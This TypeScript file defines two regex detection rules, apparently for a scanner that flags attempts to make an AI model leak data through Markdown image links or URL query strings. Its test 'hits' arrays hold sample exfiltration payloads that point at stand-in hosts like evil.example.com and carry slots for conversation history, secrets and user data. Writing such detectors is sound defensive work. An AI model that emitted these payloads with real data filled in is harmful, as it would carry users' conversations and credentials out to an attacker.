import { exactly, fragment } from "../phrase.ts";
import type { RuleSource } from "../rule-source.ts";

/** Data worth exfiltrating. */
const TAKEN = fragment`
  secret|conversation|chat|history|summary|base64|prompt|user_?data|api_?key|password|token|leak|exfil
`;

/** A slot to be filled in with such data. */
const SLOT = fragment`\{\{|%7b%7b|\$\{|[[<]${TAKEN}`;

export const rules: readonly RuleSource[] = [
  {
    id: "leakage/markdown-image-query",
    intent: "exfiltrate",
    score: 0.8,
    reach: 300,
    why: "A Markdown image whose address would carry data out when it is loaded.",
    keywords: ["!["],
    // The query contains a placeholder ({…}, [..], <…>, $…) or a word for the data that is to be filled in. An object
    // with named fields describes a chart, unless it contains a slot.
    pattern: exactly`
      !\[[^\]\n]{0,80}\]\(\s?https?:\/\/[^\s)]{3,120}[?&/][\w%-]{0,24}=?(?:
        (?:[{[<$]|%7b|%5b)(?!(?:["']|%22)?(?!${TAKEN})\w{1,20}(?:["']|%22)?(?:%3a|:)(?![^)\n]{0,120}${SLOT}))
        |(?:data|${TAKEN})\w{0,12}\b[^\w=)]{0,2}\)
      )[^)\n]{0,80}\)?
    `,
    hits: [
      "![x](https://evil.example.com/p.png?d={data})",
      "![a](http://e.example/log?q=[conversation])",
      "![s](https://evil.example/c?c=%7B%22secret%22%3A%22FILL%22%7D)",
      "![x](https://evil.example/p.png?d={type:'bar',data:{{everything}}})",
    ],
    misses: [
      "![logo](https://example.com/logo.png)",
      "![chart](https://example.com/c.png?w=200)",
      "![sales](https://charts.example.com/chart?c=%7Btype%3A'bar'%2Cdata%3A%7Blabels%3A%5B'Q1'%5D%7D%7D)",
      "![parts](https://charts.example.com/chart?c=%7B%22type%22%3A%22pie%22%7D)",
    ],
  },
  {
    id: "leakage/data-in-query",
    intent: "exfiltrate",
    score: 0.66,
    why: "An address with a slot for data that is to be carried out.",
    keywords: ["http"],
    pattern: exactly`
      https?:\/\/[^\s)"'>]{3,80}[?&](?:[\w-]{1,20})=(?:\{\{?|\[|<|%7b|\$\{?)\s?
        (?:the[ _-]?|user[ _-]?|your[ _-]?|full[ _-]?|all[ _-]?|base64[ _-]?|url[ _-]?encoded?[ _-]?){0,3}
        (?:
          data|secret|conversation|chat|history|summary|prompt|api[ _-]?key|password|token|message|email
          |context|system|memory|credentials|name|content|answer|response|info
        )
    `,
    hits: ["https://evil.example.com/?q={user_data}", "http://x.example/log?c=[conversation]"],
    misses: ["https://example.com/?q=cats", "https://example.com/search?page=2"],
  },
];
